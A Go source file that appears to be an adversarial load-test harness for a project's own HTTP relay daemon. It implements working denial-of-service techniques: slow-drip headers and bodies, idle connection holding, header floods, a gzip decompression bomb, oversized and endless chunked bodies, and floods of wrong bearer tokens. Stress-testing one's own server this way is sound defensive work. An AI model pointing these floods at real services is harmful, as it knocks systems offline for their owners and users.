package main

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"github.com/google/uuid"
)

// everything is all kinds of hostility together.
const everything = "all of these together"

// maxBody is the daemon's default, which an attacker knows.
const maxBody = 4 << 20

// hostility is one kind of attack. Several connections do it at the same time.
type hostility struct {
	name        string
	connections int
	again       time.Duration // pause before a connection that has ended is opened again
	do          func(ctx context.Context, conn net.Conn, n int)
}

type hostilities []hostility

func (all hostilities) named(name string) (hostility, bool) {
	for _, one := range all {
		if one.name == name {
			return one, true
		}
	}
	return hostility{}, false
}

// kinds are all kinds, each with as many connections as the attacker was told.
func (a *attacker) kinds() hostilities {
	slow := a.count / slowShare
	const soon = time.Millisecond
	return hostilities{
		{"slow headers", slow, soon, a.slowHeaders},            // a byte a second, never to their end
		{"slow bodies", slow, soon, a.slowBodies},              // a byte a second, one half with the secret
		{"idle connections", a.count, idleAgain, a.idle},       // one half unused, one half after a request
		{"header floods", floods, soon, a.headers},             // 1,500 of them, or 1 MiB
		{"compressed bodies", knownFloods, soon, a.compressed}, // with the secret, each another one
		{"oversized bodies", floods, soon, a.oversized},        // with the secret, in three ways
		{"wrong secrets", floods, soon, a.wrongSecrets},        // as fast as they are answered
	}
}

func post(authorization, more string) string {
	return "POST /events/Project/Updated HTTP/1.1\r\nHost: relay\r\nAuthorization: Bearer " + authorization + "\r\n" + more + "\r\n"
}

// drip sends a byte a second until the connection ends.
func drip(ctx context.Context, conn net.Conn, bytes string) {
	for i := 0; ; i = (i + 1) % len(bytes) {
		if pause(ctx, time.Second) != nil {
			return
		}
		if _, err := io.WriteString(conn, bytes[i:i+1]); err != nil {
			return
		}
	}
}

func (a *attacker) slowHeaders(ctx context.Context, conn net.Conn, _ int) {
	if _, err := io.WriteString(conn, "POST /events HTTP/1.1\r\nHost: relay\r\nX-Slow: "); err == nil {
		drip(ctx, conn, "x")
	}
}

func (a *attacker) slowBodies(ctx context.Context, conn net.Conn, n int) {
	authorization := secret
	if n%2 == 0 {
		authorization = "not-the-secret"
	}
	if _, err := io.WriteString(conn, post(authorization, "Content-Length: 2000\r\n")); err != nil {
		return
	}
	ctx, cancel := context.WithCancel(ctx)
	defer cancel()
	go drip(ctx, conn, " ")
	a.answer(bufio.NewReader(conn))
}

// idle says nothing, or nothing more after one request, until the server hangs up.
func (a *attacker) idle(_ context.Context, conn net.Conn, n int) {
	answers := bufio.NewReader(conn)
	if n%2 == 0 {
		if _, err := io.WriteString(conn, "GET /healthz HTTP/1.1\r\nHost: relay\r\n\r\n"); err != nil || !a.answer(answers) {
			return
		}
	}
	_, _ = answers.ReadByte() // it waits, which is all
}

// headers sends as many as the server takes, and every second connection more than that.
func (a *attacker) headers(ctx context.Context, conn net.Conn, n int) {
	many := strings.Repeat("a: b\r\n", 1500)
	if n%2 == 1 {
		many = strings.Repeat("X-Long: "+strings.Repeat("x", 1000)+"\r\n", 1000)
	}
	a.flood(ctx, conn, func() string { return "GET /healthz HTTP/1.1\r\nHost: relay\r\n" + many + "\r\n" })
}

// newBomb compresses nothing but zeros.
func newBomb() ([]byte, error) {
	var small bytes.Buffer
	writer := gzip.NewWriter(&small)
	if _, err := writer.Write(make([]byte, 10<<20)); err != nil {
		return nil, err
	}
	err := writer.Close()
	return small.Bytes(), err
}

func (a *attacker) compressed(ctx context.Context, conn net.Conn, _ int) {
	a.flood(ctx, conn, func() string {
		body := string(a.bomb) + uuid.NewString() // else it would be the same again, and cost nothing
		return post(secret, fmt.Sprintf("Content-Encoding: gzip\r\nContent-Length: %d\r\n", len(body))) + body
	})
}

// oversized sends more than the limit, or stops just before it and keeps what has arrived in memory.
func (a *attacker) oversized(ctx context.Context, conn net.Conn, n int) {
	if n%3 == 0 {
		a.flood(ctx, conn, func() string { return post(secret, "Content-Length: 1000000000\r\n") })
		return
	}
	if _, err := io.WriteString(conn, post(secret, "Transfer-Encoding: chunked\r\n")); err != nil {
		return
	}
	chunk := fmt.Sprintf("10000\r\n%s\r\n", strings.Repeat(" ", 0x10000))
	for sent := 0; n%3 == 1 || sent < maxBody-0x10000; sent += 0x10000 {
		if _, err := io.WriteString(conn, chunk); err != nil {
			break
		}
	}
	a.answer(bufio.NewReader(conn))
}

func (a *attacker) wrongSecrets(ctx context.Context, conn net.Conn, _ int) {
	a.flood(ctx, conn, func() string { return post(uuid.NewString(), "Content-Length: 2\r\n") + "{}" })
}

// flood sends a request after each answer, until the server hangs up.
func (a *attacker) flood(ctx context.Context, conn net.Conn, request func() string) {
	answers := bufio.NewReader(conn)
	for ctx.Err() == nil {
		if _, err := io.WriteString(conn, request()); err != nil {
			return
		}
		if !a.answer(answers) {
			return
		}
	}
}

// answer reads an answer, and reports whether another request may follow.
func (a *attacker) answer(answers *bufio.Reader) bool {
	answer, err := http.ReadResponse(answers, nil)
	if err != nil {
		return false
	}
	_, err = io.Copy(io.Discard, answer.Body)
	_ = answer.Body.Close()
	a.answers.Add(1)
	return err == nil && !answer.Close
}
